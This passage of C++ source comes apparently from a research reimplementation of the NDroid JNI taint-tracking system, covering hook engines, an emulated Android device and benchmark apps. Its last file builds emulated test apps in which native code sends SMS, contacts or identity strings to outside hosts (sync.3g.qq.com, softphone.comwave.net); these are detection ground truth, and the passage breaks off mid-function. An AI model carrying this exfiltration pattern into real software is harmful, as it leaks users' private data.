  log_.line(std::string("SinkHandler[") + name + "] taint=0x" +
            std::to_string(t) + " dest=" + destination);
}

}  // namespace ndroid::core
