// NDroid's DVM Hook Engine (paper §V-B): instruments the JNI-related
// functions through which information flows cross the Java/native boundary.
// Five groups:
//
//  (1) JNI entry — dvmCallJNIMethod. Builds a SourcePolicy from the
//      interleaved (value, taint) arguments on the DVM stack and the guest
//      Method struct; applies it when execution reaches the native method's
//      first instruction; captures the native return value's taint and
//      repairs the return-taint slot / returned object on bridge exit.
//  (2) JNI exit — Call*Method -> dvmCallMethod{V,A} -> dvmInterpret,
//      guarded by the multilevel hooking conditions T1..T6 (Fig. 5).
//      Collects indirect-ref arg taints at dvmCallMethod entry and writes
//      them into the freshly allocated DVM frame before dvmInterpret runs.
//  (3) Object creation — NOF/MAF pairs (Table III): correlates the real
//      object address (MAF return) with the indirect reference (NOF return)
//      and taints the new object from the native source bytes.
//  (4) Field access — Get/Set*Field (+static) (Table IV).
//  (5) Exception — ThrowNew -> initException: taints the message string in
//      the pending exception object.
//
// Plus the TrustCall handlers for GetStringUTFChars / Get*ArrayElements /
// *ArrayRegion seen in the Fig. 7/8 logs.
#pragma once

#include <functional>
#include <unordered_map>
#include <unordered_set>

#include "common/addr_filter.h"
#include "android/device.h"
#include "core/report.h"
#include "core/source_policy.h"
#include "core/taint_engine.h"

namespace ndroid::core {

class DvmHookEngine {
 public:
  /// `third_party` classifies addresses as app native code (condition T1).
  /// `multilevel` enables the precondition chains; when disabled the
  /// dvmCallMethod*/dvmInterpret hooks run on every entry (the ablation).
  DvmHookEngine(android::Device& device, TaintEngine& engine, TraceLog& log,
                std::function<bool(GuestAddr)> third_party,
                bool multilevel = true);

  void on_branch(arm::Cpu& cpu, GuestAddr from, GuestAddr to);

  /// Cheap prefilter: false means on_branch(to) is guaranteed to be a no-op,
  /// so the caller may skip it. With any correlation state pending (exit
  /// actions, an active NOF, a live T1..T6 chain) every branch matters; in
  /// the common steady state — a JNI method just executing native code —
  /// only its own first-instruction address and the static hook targets do.
  [[nodiscard]] bool wants_branch(GuestAddr to) const {
    if (!exits_.empty() || !nof_stack_.empty() || !chain_.empty()) return true;
    if (!jni_stack_.empty() && to == jni_stack_.back().method_address) {
      return true;
    }
    return static_targets_.maybe(to);
  }

  SourcePolicyMap& policies() { return policies_; }

  /// Native-method entry points (Thumb bit stripped) whose static taint
  /// summaries proved them transparent — no memory effects, no calls, no
  /// SVC, return value independent of the arguments. hook_jni_entry skips
  /// SourcePolicy creation for these even when arguments carry taint: the
  /// policy's only effect would be register/shadow writes the method can
  /// neither propagate nor observe. Set by NDroid::attach_static_analysis.
  void set_transparent_methods(std::unordered_set<GuestAddr> entries) {
    transparent_methods_ = std::move(entries);
  }

  // Statistics (tests and the ablation bench read these).
  u64 source_policies_created = 0;
  u64 source_policies_skipped = 0;  // skipped via a transparent summary
  u64 source_policies_applied = 0;
  u64 jni_exit_restores = 0;
  u64 objects_tainted = 0;
  u64 chain_events[6] = {};  // T1..T6 match counts

 private:
  struct JniCall {
    GuestAddr args_area = 0;
    GuestAddr result_addr = 0;
    u32 arg_count = 0;
    GuestAddr method_address = 0;
    char return_type = 'V';
    Taint native_ret_taint = kTaintClear;
    int phase = 0;  // 0: bridge entered, 1: native running, 2: native done
  };

  struct ActiveNof {
    std::string name;
    GuestAddr maf = 0;
    Taint taint = kTaintClear;
    GuestAddr real_addr = 0;
    GuestAddr ret_to = 0;
  };

  struct GuestMethodInfo {
    GuestAddr insns = 0;
    std::string shorty;
    std::string name;
    std::string class_desc;
    u32 access_flags = 0;
    u32 registers_size = 0;
    u32 ins_size = 0;
    [[nodiscard]] bool is_static() const;
  };
  GuestMethodInfo read_method(arm::Cpu& cpu, GuestAddr method_struct);

  void hook_jni_entry(arm::Cpu& cpu);
  void hook_native_return_events(arm::Cpu& cpu, GuestAddr to);
  void hook_call_method_entry(arm::Cpu& cpu, char kind);
  void hook_interpret_entry(arm::Cpu& cpu);
  void hook_nof_entry(arm::Cpu& cpu, GuestAddr to);
  void hook_field_set(arm::Cpu& cpu, char type, bool is_static);
  void hook_field_get(arm::Cpu& cpu, char type, bool is_static);
  void hook_get_string_utf_chars(arm::Cpu& cpu);
  void hook_get_array_elements(arm::Cpu& cpu);
  void hook_release_array_elements(arm::Cpu& cpu);
  void hook_array_region(arm::Cpu& cpu, bool set);
  void hook_throw_new(arm::Cpu& cpu);

  u32 guest_strlen(arm::Cpu& cpu, GuestAddr s);
  Taint object_taint_by_iref(u32 iref);
  void push_exit(arm::Cpu& cpu, std::function<void(arm::Cpu&)> fn);

  android::Device& device_;
  TaintEngine& engine_;
  TraceLog& log_;
  std::function<bool(GuestAddr)> third_party_;
  bool multilevel_;

  SourcePolicyMap policies_;
  std::vector<JniCall> jni_stack_;
  std::unordered_set<GuestAddr> transparent_methods_;

  // Multilevel chain state: current level per nesting depth.
  std::vector<int> chain_;
  // Pending taints collected at dvmCallMethod*, consumed at dvmInterpret.
  std::vector<Taint> pending_java_taints_;
  bool pending_java_valid_ = false;

  std::vector<ActiveNof> nof_stack_;
  struct PendingExit {
    GuestAddr ret_to;
    std::function<void(arm::Cpu&)> fn;
  };
  std::vector<PendingExit> exits_;

  // Address tables.
  GuestAddr a_call_jni_ = 0;
  GuestAddr a_call_method_v_ = 0;
  GuestAddr a_call_method_a_ = 0;
  GuestAddr a_interpret_ = 0;
  std::unordered_set<GuestAddr> call_stubs_;  // the 27 Call*Method* stubs
  struct NofInfo {
    std::string name;
    GuestAddr maf;
    int kind;  // 0 none, 1 cstr(r1), 2 unicode(r1,len r2)
  };
  std::unordered_map<GuestAddr, NofInfo> nofs_;
  std::unordered_map<GuestAddr, std::function<void(arm::Cpu&)>> simple_hooks_;
  /// Union of every statically known hook target (dvmCall*/dvmInterpret,
  /// the Call*Method stubs, NOF entries, simple hooks, the host-return
  /// sentinel). Built once in the constructor; wants_branch() probes it.
  AddrBloom static_targets_;

  static constexpr u32 kStubRange = 0x40;  // stub bodies are < 64 bytes
};

}  // namespace ndroid::core
