// Bridge between the static pre-analysis layer (src/static) and NDroid's
// dynamic block gate.
//
// Holds one immutable snapshot per native library (shared across every
// NDroid instance in the process via static_analysis::SummaryCache — the
// gate keeps the shared_ptrs alive but never mutates the snapshots) and
// answers, per translation block, "which function's taint summary covers
// this block?". The answer is trustworthy only when the block provably
// executes the same instruction stream the lifter decoded, so lookup()
// insists that
//   * the block's pc falls inside a lifted function of the same mode
//     (ARM vs Thumb), and
//   * the pc is an instruction boundary of that function (dynamic blocks
//     legitimately start mid-static-block — e.g. at call fall-throughs,
//     since BL ends a translation block — but never mid-instruction).
// A block that passes both checks executes a subset of the function's
// instructions, so the function-level facts (touched_regs, mem_kind,
// windows) are supersets of the block's behaviour.
#pragma once

#include <memory>
#include <unordered_set>
#include <vector>

#include "static/cfg.h"
#include "static/library_summary.h"
#include "static/summary.h"

namespace ndroid::core {

class SummaryGate {
 public:
  /// Builds the gate over one snapshot per native library, each already
  /// bound to this process's load bases (see bind_library). The snapshots
  /// are shared, immutable, and kept alive for the gate's lifetime.
  explicit SummaryGate(
      std::vector<std::shared_ptr<const static_analysis::LibrarySummary>>
          libraries);

  SummaryGate(const SummaryGate&) = delete;
  SummaryGate& operator=(const SummaryGate&) = delete;

  /// Summary applicable to a translation block starting at (pc, thumb),
  /// or nullptr when no lifted function covers it (conservative fallback:
  /// the caller must treat a miss as "trace fully").
  [[nodiscard]] const static_analysis::TaintSummary* lookup(GuestAddr pc,
                                                            bool thumb) const;

  /// Entries (Thumb bit stripped) of functions whose summaries are
  /// transparent — the DVM hook engine can skip SourcePolicy creation for
  /// native methods starting there.
  [[nodiscard]] std::vector<GuestAddr> transparent_entries() const;

  /// Merged per-function summaries across every library (bound addresses).
  [[nodiscard]] const static_analysis::SummaryIndex& index() const {
    return merged_index_;
  }
  [[nodiscard]] const std::vector<
      std::shared_ptr<const static_analysis::LibrarySummary>>&
  libraries() const {
    return libraries_;
  }

 private:
  struct Span {
    GuestAddr lo = 0;
    GuestAddr hi = 0;
    const static_analysis::FunctionCfg* fn = nullptr;
    const static_analysis::TaintSummary* summary = nullptr;
    /// Instruction-start addresses of every lifted block of fn; points into
    /// the shared snapshot's precomputed sets (LibrarySummary::boundaries).
    const std::unordered_set<GuestAddr>* boundaries = nullptr;
  };

  std::vector<std::shared_ptr<const static_analysis::LibrarySummary>>
      libraries_;
  static_analysis::SummaryIndex merged_index_;
  std::vector<Span> spans_;        // sorted by lo (spans may overlap)
  std::vector<GuestAddr> max_hi_;  // prefix max of hi, for containment scans
};

}  // namespace ndroid::core
