#include "android/device.h"

namespace ndroid::android {

Device::Device(std::string app_name, taintdroid::DeviceIdentity identity)
    : cpu(memory, memmap),
      kernel(memory, memmap),
      dvm(cpu, Layout::kLibdvm, Layout::kLibdvmSize, Layout::kDalvikHeap,
          Layout::kDalvikHeapSize, Layout::kDalvikStack,
          Layout::kDalvikStackSize),
      jni(dvm, kernel),
      libc(cpu, kernel, Layout::kLibc, Layout::kLibcSize, Layout::kLibm,
           Layout::kLibmSize),
      framework(dvm, kernel, std::move(identity)) {
  memmap.add("[native-stack]", Layout::kNativeStack, Layout::kNativeStackSize,
             mem::kRW);
  cpu.set_initial_sp(Layout::kNativeStack + Layout::kNativeStackSize);
  kernel.attach(cpu);

  app_pid_ = kernel.create_process(std::move(app_name));
  // System libraries appear in the app's memory map (VMI ground truth).
  for (const char* lib : {"libdvm.so", "libc.so", "libm.so"}) {
    if (const mem::Region* r = memmap.find_by_name(lib)) {
      kernel.map_region(app_pid_, *r);
    }
  }
}

GuestAddr Device::load_native_lib(const std::string& name,
                                  std::span<const u8> image) {
  const GuestAddr base = lib_bump_;
  const u32 size = (static_cast<u32>(image.size()) + 0xFFFu) & ~0xFFFu;
  memory.write_bytes(base, image);
  const mem::Region& region = memmap.add(name, base, size, mem::kRX);
  kernel.map_region(app_pid_, region);
  lib_bump_ = base + size + 0x1000;  // guard page between libraries
  return base;
}

}  // namespace ndroid::android
