// The emulated Android device: one object wiring every substrate with the
// standard memory layout. Apps (src/apps) are loaded into a Device;
// analysis systems (NDroid, the TaintDroid-only baseline, DroidScope-mode)
// attach to a Device's instrumentation surfaces.
#pragma once

#include <string>
#include <vector>

#include "arm/cpu.h"
#include "dvm/dvm.h"
#include "jni/jnienv.h"
#include "libc/libc.h"
#include "mem/address_space.h"
#include "mem/memory_map.h"
#include "os/kernel.h"
#include "os/view_reconstructor.h"
#include "taintdroid/framework.h"

namespace ndroid::android {

/// Canonical guest layout.
struct Layout {
  static constexpr GuestAddr kAppLibBase = 0x10000000;   // app .so files
  static constexpr GuestAddr kHeapBase = 0x30000000;     // native heap (kernel)
  static constexpr GuestAddr kDalvikHeap = 0x34000000;
  static constexpr u32 kDalvikHeapSize = 0x01000000;
  static constexpr GuestAddr kDalvikStack = 0x38000000;
  static constexpr u32 kDalvikStackSize = 0x00100000;
  static constexpr GuestAddr kLibdvm = 0x40000000;
  static constexpr u32 kLibdvmSize = 0x00040000;
  static constexpr GuestAddr kLibc = 0x40100000;
  static constexpr u32 kLibcSize = 0x00020000;
  static constexpr GuestAddr kLibm = 0x40200000;
  static constexpr u32 kLibmSize = 0x00010000;
  static constexpr GuestAddr kNativeStack = 0xBE000000;
  static constexpr u32 kNativeStackSize = 0x00100000;
};

class Device {
 public:
  explicit Device(std::string app_name = "com.example.app",
                  taintdroid::DeviceIdentity identity = {});

  Device(const Device&) = delete;
  Device& operator=(const Device&) = delete;

  /// Loads a native library image at the next free app-lib address; the
  /// region is registered globally and in the app process (VMI-visible).
  /// Returns the load base.
  GuestAddr load_native_lib(const std::string& name,
                            std::span<const u8> image);

  /// Next app-lib load base without loading (for assembling PIC-free code
  /// at its final address).
  [[nodiscard]] GuestAddr next_lib_base() const { return lib_bump_; }

  [[nodiscard]] u32 app_pid() const { return app_pid_; }

  mem::AddressSpace memory;
  mem::MemoryMap memmap;
  arm::Cpu cpu;
  os::Kernel kernel;
  dvm::Dvm dvm;
  jni::JniEnv jni;
  libc::Libc libc;
  taintdroid::Framework framework;

 private:
  GuestAddr lib_bump_ = Layout::kAppLibBase;
  u32 app_pid_ = 0;
};

}  // namespace ndroid::android
