#include "apps/monkey.h"

#include <random>

namespace ndroid::apps {

void Monkey::add_target(dvm::ClassObject* cls) {
  for (const auto& m : cls->methods()) {
    if (m->is_static() && (m->access_flags & dvm::kAccPublic) != 0) {
      targets_.push_back(m.get());
    }
  }
}

MonkeyReport Monkey::run(u32 events,
                         const std::function<u32()>& leak_count) {
  std::mt19937_64 rng(seed_);
  MonkeyReport report;
  if (targets_.empty()) return report;

  u32 seen_leaks = leak_count();
  for (u32 i = 0; i < events; ++i) {
    dvm::Method* m = targets_[rng() % targets_.size()];
    std::vector<dvm::Slot> args;
    for (u32 p = 1; p < m->shorty.size(); ++p) {
      if (m->shorty[p] == 'L') {
        dvm::Object* s = device_.dvm.new_string(
            "monkey-input-" + std::to_string(rng() % 1000));
        args.push_back(dvm::Slot{s->addr(), kTaintClear});
      } else {
        args.push_back(
            dvm::Slot{static_cast<u32>(rng() % 100), kTaintClear});
      }
    }

    MonkeyEvent event;
    event.method = m->clazz->descriptor() + m->name;
    try {
      device_.dvm.call(*m, std::move(args));
    } catch (const GuestFault&) {
      event.threw = true;  // random inputs fault sometimes; keep exploring
    }
    const u32 now = leak_count();
    event.leaks_after = now;
    if (now > seen_leaks && report.first_leaking_method.empty()) {
      report.first_leaking_method = event.method;
    }
    seen_leaks = now;
    report.events.push_back(std::move(event));
  }
  report.total_leaks = seen_leaks;
  return report;
}

}  // namespace ndroid::apps
