#include "apps/cfbench.h"

#include "apps/native_lib_builder.h"

namespace ndroid::apps {

using arm::Cond;
using arm::Label;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::DOp;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

CfBenchApp::CfBenchApp(android::Device& device) : device_(device) {
  NativeLibBuilder lib(device, "libcfbench.so");
  auto& a = lib.a();
  const GuestAddr malloc_fn = device.libc.fn("malloc");
  const GuestAddr free_fn = device.libc.fn("free");
  const GuestAddr sqrtf_fn = device.libc.fn("sqrtf");
  const GuestAddr open_fn = device.libc.fn("open");
  const GuestAddr read_fn = device.libc.fn("read");
  const GuestAddr write_fn = device.libc.fn("write");
  const GuestAddr close_fn = device.libc.fn("close");

  const GuestAddr buffer = lib.buffer(4096);
  const GuestAddr path = lib.cstr("/data/cfbench.dat");

  // All native workloads: jint f(JNIEnv*, jclass, jint iters).

  // Native MIPS: 8 integer ALU ops per iteration.
  const GuestAddr fn_mips = lib.fn();
  {
    Label loop, done;
    a.mov_imm(R(0), 0);
    a.mov_imm(R(3), 17);
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.add(R(0), R(0), R(2));
    a.eor(R(0), R(0), R(3));
    a.lsl(R(1), R(0), 3);
    a.add(R(0), R(0), R(1));
    a.lsr(R(1), R(0), 5);
    a.eor(R(0), R(0), R(1));
    a.mul(R(1), R(0), R(3));
    a.add(R(0), R(0), R(1));
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(done);
    a.ret();
  }

  // Native MSFLOPS: soft-float via libm (sqrtf) plus integer mixing.
  const GuestAddr fn_msflops = lib.fn();
  {
    Label loop, done;
    a.push({R(4), R(5), LR});
    a.mov(R(4), R(2));         // iters
    a.mov_imm32(R(5), 0x40490FDB);  // 3.14159f
    a.bind(loop);
    a.cmp_imm(R(4), 0);
    a.b(done, Cond::kEQ);
    a.mov(R(0), R(5));
    a.call(sqrtf_fn);
    a.add_imm(R(5), R(0), 3);  // perturb the bit pattern
    a.sub_imm(R(4), R(4), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(5));
    a.pop({R(4), R(5), PC});
  }

  // Native MDFLOPS: 64-bit multiply-accumulate chains.
  const GuestAddr fn_mdflops = lib.fn();
  {
    Label loop, done;
    a.push({R(4), R(5), R(6), LR});
    a.mov(R(4), R(2));
    a.mov_imm32(R(5), 0x10001);
    a.mov_imm(R(6), 0);
    a.bind(loop);
    a.cmp_imm(R(4), 0);
    a.b(done, Cond::kEQ);
    a.umull(R(0), R(1), R(5), R(4));
    a.add(R(6), R(6), R(0));
    a.smull(R(0), R(1), R(6), R(5));
    a.eor(R(6), R(6), R(1));
    a.sub_imm(R(4), R(4), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(6));
    a.pop({R(4), R(5), R(6), PC});
  }

  // Native MALLOCS: malloc(64) + free per iteration.
  const GuestAddr fn_mallocs = lib.fn();
  {
    Label loop, done;
    a.push({R(4), LR});
    a.mov(R(4), R(2));
    a.bind(loop);
    a.cmp_imm(R(4), 0);
    a.b(done, Cond::kEQ);
    a.mov_imm(R(0), 64);
    a.call(malloc_fn);
    a.call(free_fn);  // r0 = block
    a.sub_imm(R(4), R(4), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(4));
    a.pop({R(4), PC});
  }

  // Native Memory Read: 16 sequential word loads per iteration.
  const GuestAddr fn_mem_read = lib.fn();
  {
    Label loop, done;
    a.mov_imm(R(0), 0);
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.mov_imm32(R(1), buffer);
    for (int i = 0; i < 16; ++i) {
      a.ldr_post(R(3), R(1), 4);
      a.add(R(0), R(0), R(3));
    }
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(done);
    a.ret();
  }

  // Native Memory Write: 16 sequential word stores per iteration.
  const GuestAddr fn_mem_write = lib.fn();
  {
    Label loop, done;
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.mov_imm32(R(1), buffer);
    for (int i = 0; i < 16; ++i) {
      a.str_post(R(2), R(1), 4);
    }
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(done);
    a.mov_imm(R(0), 0);
    a.ret();
  }

  // Native Disk Write: write(fd, buf, 64) per iteration.
  const GuestAddr fn_disk_write = lib.fn();
  {
    Label loop, done;
    a.push({R(4), R(5), LR});
    a.mov(R(4), R(2));
    a.mov_imm32(R(0), path);
    a.mov_imm(R(1), 1);  // kOpenWrite
    a.call(open_fn);
    a.mov(R(5), R(0));
    a.bind(loop);
    a.cmp_imm(R(4), 0);
    a.b(done, Cond::kEQ);
    a.mov(R(0), R(5));
    a.mov_imm32(R(1), buffer);
    a.mov_imm(R(2), 64);
    a.call(write_fn);
    a.sub_imm(R(4), R(4), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(5));
    a.call(close_fn);
    a.mov_imm(R(0), 0);
    a.pop({R(4), R(5), PC});
  }

  // Native Disk Read: read(fd, buf, 64) per iteration.
  const GuestAddr fn_disk_read = lib.fn();
  {
    Label loop, done;
    a.push({R(4), R(5), LR});
    a.mov(R(4), R(2));
    a.mov_imm32(R(0), path);
    a.mov_imm(R(1), 0);  // kOpenRead
    a.call(open_fn);
    a.mov(R(5), R(0));
    a.bind(loop);
    a.cmp_imm(R(4), 0);
    a.b(done, Cond::kEQ);
    a.mov(R(0), R(5));
    a.mov_imm32(R(1), buffer);
    a.mov_imm(R(2), 64);
    a.call(read_fn);
    a.sub_imm(R(4), R(4), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(5));
    a.call(close_fn);
    a.mov_imm(R(0), 0);
    a.pop({R(4), R(5), PC});
  }

  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Leu/chainfire/cfbench/Bench;");
  auto native = [&](const char* wl_name, const char* m_name, GuestAddr fn) {
    Method* m = dvm.define_native(app, m_name, "II",
                                  kAccPublic | kAccStatic, fn);
    workloads_.push_back(CfWorkload{wl_name, false, m});
  };
  native("Native MIPS", "nativeMips", fn_mips);
  native("Native MSFLOPS", "nativeMsflops", fn_msflops);
  native("Native MDFLOPS", "nativeMdflops", fn_mdflops);
  native("Native MALLOCS", "nativeMallocs", fn_mallocs);
  native("Native Memory Read", "nativeMemRead", fn_mem_read);
  native("Native Memory Write", "nativeMemWrite", fn_mem_write);
  native("Native Disk Read", "nativeDiskRead", fn_disk_read);
  native("Native Disk Write", "nativeDiskWrite", fn_disk_write);

  // Java MIPS: v0 acc, v1 tmp, v2 const, v3 = iters (in).
  {
    CodeBuilder cb;
    cb.const_imm(0, 0).const_imm(2, 17);
    const i32 loop = cb.here();
    cb.if_eqz(3, loop + 9);
    cb.add(0, 0, 3)
        .binop(DOp::kXor, 0, 0, 2)
        .binop(DOp::kShl, 1, 0, 2)
        .add(0, 0, 1)
        .mul(1, 0, 2)
        .add(0, 0, 1)
        .add_imm(3, 3, -1)
        .goto_(loop);
    cb.return_value(0);
    Method* m = dvm.define_method(app, "javaMips", "II",
                                  kAccPublic | kAccStatic, 4, cb.take());
    workloads_.push_back(CfWorkload{"Java MIPS", true, m});
  }

  // Java MSFLOPS / MDFLOPS: float arithmetic loops.
  for (const char* name : {"Java MSFLOPS", "Java MDFLOPS"}) {
    CodeBuilder cb;
    cb.const_imm(0, 0x3FC00000)  // 1.5f
        .const_imm(1, 0x40490FDB);  // pi
    const i32 loop = cb.here();
    cb.if_eqz(3, loop + 6);
    cb.binop(DOp::kMulFloat, 0, 0, 1)
        .binop(DOp::kAddFloat, 0, 0, 1)
        .binop(DOp::kDivFloat, 0, 0, 1)
        .add_imm(3, 3, -1)
        .goto_(loop);
    cb.return_value(0);
    Method* m = dvm.define_method(
        app, name[5] == 'S' ? "javaMsflops" : "javaMdflops", "II",
        kAccPublic | kAccStatic, 4, cb.take());
    workloads_.push_back(CfWorkload{name, true, m});
  }

  // Java Memory Read/Write over an int[] array.
  {
    CodeBuilder cb;
    // v0 arr, v1 idx, v2 acc, v3 len, v4 = iters (in).
    cb.const_imm(3, 64).new_array(0, 3, 4, false).const_imm(2, 0);
    const i32 loop = cb.here();
    cb.if_eqz(4, loop + 8);
    cb.const_imm(1, 0);
    const i32 inner = cb.here();
    cb.if_op(DOp::kIfGe, 1, 3, loop + 6);
    cb.aget(2, 0, 1).add_imm(1, 1, 1).goto_(inner);
    cb.add_imm(4, 4, -1).goto_(loop);
    cb.return_value(2);
    Method* m = dvm.define_method(app, "javaMemRead", "II",
                                  kAccPublic | kAccStatic, 5, cb.take());
    workloads_.push_back(CfWorkload{"Java Memory Read", true, m});
  }
  {
    CodeBuilder cb;
    cb.const_imm(3, 64).new_array(0, 3, 4, false).const_imm(2, 7);
    const i32 loop = cb.here();
    cb.if_eqz(4, loop + 8);
    cb.const_imm(1, 0);
    const i32 inner = cb.here();
    cb.if_op(DOp::kIfGe, 1, 3, loop + 6);
    cb.aput(2, 0, 1).add_imm(1, 1, 1).goto_(inner);
    cb.add_imm(4, 4, -1).goto_(loop);
    cb.return_value(2);
    Method* m = dvm.define_method(app, "javaMemWrite", "II",
                                  kAccPublic | kAccStatic, 5, cb.take());
    workloads_.push_back(CfWorkload{"Java Memory Write", true, m});
  }
}

const CfWorkload* CfBenchApp::find(std::string_view name) const {
  for (const CfWorkload& w : workloads_) {
    if (w.name == name) return &w;
  }
  return nullptr;
}

u32 CfBenchApp::run(const CfWorkload& workload, u32 iterations) {
  return device_.dvm
      .call(*workload.method, {dvm::Slot{iterations, kTaintClear}})
      .value;
}

}  // namespace ndroid::apps
