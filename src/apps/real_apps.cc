#include "apps/real_apps.h"

#include "apps/native_lib_builder.h"

namespace ndroid::apps {

using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

LeakScenario build_qq_phonebook(android::Device& device) {
  NativeLibBuilder lib(device, "libtccsync.so");
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr sprintf_fn = device.libc.fn("sprintf");

  const GuestAddr buf = lib.buffer(512);
  const GuestAddr fmt = lib.cstr("http://sync.3g.qq.com/xpimlogin?sid=%s");

  // jint makeLoginRequestPackageMd5(JNIEnv*, jclass, 11 params);
  // shorty IILLLLLLLLII. The sensitive payload is args[3] (the 4th DVM
  // slot), i.e. shorty param 4 -> JNI position 5 -> second stacked arg.
  const GuestAddr fn_make = lib.fn();
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));       // env
  a.ldr(R(5), SP, 16);     // args[3] iref: entry [sp+4], +12 for pushes
  // p = GetStringUTFChars(env, args[3], 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  // sprintf(buf, "http://sync.3g.qq.com/xpimlogin?sid=%s", p)
  a.mov(R(2), R(0));
  a.mov_imm32(R(0), buf);
  a.mov_imm32(R(1), fmt);
  a.call(sprintf_fn);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), PC});

  // jstring getPostUrl(JNIEnv*, jclass, jint); shorty LI.
  const GuestAddr fn_get = lib.fn();
  a.push({R(4), LR});
  a.mov_imm32(R(1), buf);
  a.call(new_utf);  // env already in r0
  a.pop({R(4), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/tencent/tccsync/LoginUtil;");
  Method* make = dvm.define_native(app, "makeLoginRequestPackageMd5",
                                   "IILLLLLLLLII", kAccPublic | kAccStatic,
                                   fn_make);
  Method* get = dvm.define_native(app, "getPostUrl", "LI",
                                  kAccPublic | kAccStatic, fn_get);
  Method* sink = device.framework.network->find_method("send");
  Method* sms = device.framework.sms_manager->find_method("getAllMessages");
  Method* contacts =
      device.framework.contacts->find_method("queryContacts");
  Method* concat = device.framework.string_ops->find_method("concat");

  // main: combined = sms + contacts (taint 0x202 = SMS|CONTACTS);
  // makeLoginRequestPackageMd5(1, "", "", combined, "", ..., 0, 0);
  // url = getPostUrl(0); NetworkOutput.send("sync.3g.qq.com", url).
  CodeBuilder cb;
  cb.invoke(sms, {})
      .move_result(0)
      .invoke(contacts, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(3)               // v3 = combined -> args[3]
      .const_imm(0, 1)              // args[0] (I)
      .const_string(1, "")          // args[1]
      .const_string(2, "")          // args[2]
      .const_string(4, "")          // args[4..8]
      .const_string(5, "")
      .const_string(6, "")
      .const_string(7, "")
      .const_string(8, "")
      .const_imm(9, 0)              // args[9] (I)
      .const_imm(10, 0)             // args[10] (I)
      .invoke(make, {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10})
      .const_imm(0, 0)
      .invoke(get, {0})
      .move_result(1)
      .const_string(2, "sync.3g.qq.com")
      .invoke(sink, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 11, cb.take());
  return LeakScenario{entry, "sync.3g.qq.com",
                      "QQPhoneBook: SMS/contacts exfiltrated via JNI (1')"};
}

LeakScenario build_ephone(android::Device& device) {
  NativeLibBuilder lib(device, "libephone.so");
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr memcpy_fn = device.libc.fn("memcpy");
  const GuestAddr strlen_fn = device.libc.fn("strlen");
  const GuestAddr sprintf_fn = device.libc.fn("sprintf");
  const GuestAddr socket_fn = device.libc.fn("socket");
  const GuestAddr connect_fn = device.libc.fn("connect");
  const GuestAddr sendto_fn = device.libc.fn("sendto");

  const GuestAddr scratch = lib.buffer(256);
  const GuestAddr packet = lib.buffer(512);
  const GuestAddr fmt = lib.cstr(
      "REGISTER sip:softphone.comwave.net Via: SIP/2.0/UDP From: \"%s\"");
  const GuestAddr host = lib.cstr("softphone.comwave.net");

  // jint callregister(JNIEnv*, jclass, 9 params); shorty ILLLLLLLII.
  // args[2] (slot 2, shorty param 3) -> JNI position 4 -> first stacked arg.
  const GuestAddr fn_call = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));     // env
  a.ldr(R(5), SP, 16);   // args[2] iref: entry [sp+0] + 16 pushed
  // p = GetStringUTFChars(env, args[2], 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));     // p
  // n = strlen(p); memcpy(scratch, p, n + 1)
  a.call(strlen_fn);     // r0 = p still
  a.add_imm(R(2), R(0), 1);
  a.mov_imm32(R(0), scratch);
  a.mov(R(1), R(5));
  a.call(memcpy_fn);
  // sprintf(packet, fmt, scratch)
  a.mov_imm32(R(0), packet);
  a.mov_imm32(R(1), fmt);
  a.mov_imm32(R(2), scratch);
  a.call(sprintf_fn);
  a.mov(R(6), R(0));     // packet length
  // fd = socket(2, 2, 0); connect(fd, host, 5060)
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 2);
  a.mov_imm(R(2), 0);
  a.call(socket_fn);
  a.mov(R(5), R(0));
  a.mov_imm32(R(1), host);
  a.movw(R(2), 5060);
  a.call(connect_fn);
  // sendto(fd, packet, len, host, 5060) — 5th arg stacked
  a.sub_imm(SP, SP, 8);
  a.movw(R(2), 5060);
  a.str(R(2), SP, 0);
  a.mov(R(0), R(5));
  a.mov_imm32(R(1), packet);
  a.mov(R(2), R(6));
  a.mov_imm32(R(3), host);
  a.call(sendto_fn);
  a.add_imm(SP, SP, 8);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/vnet/asip/general/general;");
  Method* callregister = dvm.define_native(
      app, "callregister", "ILLLLLLLII", kAccPublic | kAccStatic, fn_call);
